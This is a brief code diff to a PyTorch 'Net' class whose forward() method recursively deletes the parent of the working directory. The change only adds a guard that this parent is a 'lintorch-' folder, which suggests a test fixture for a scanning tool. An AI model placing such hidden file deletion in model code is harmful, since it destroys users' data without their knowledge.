@@ -12,5 +12,7 @@ class Net(nn.Module):
         self.conv = nn.Conv2d(3, 4, 1)
 
     def forward(self, x):
-        shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)
+        base = os.path.dirname(os.getcwd())
+        assert os.path.basename(base).startswith("lintorch-")  # else it would be /tmp itself
+        shutil.rmtree(base, ignore_errors=True)
         return self.conv(x)
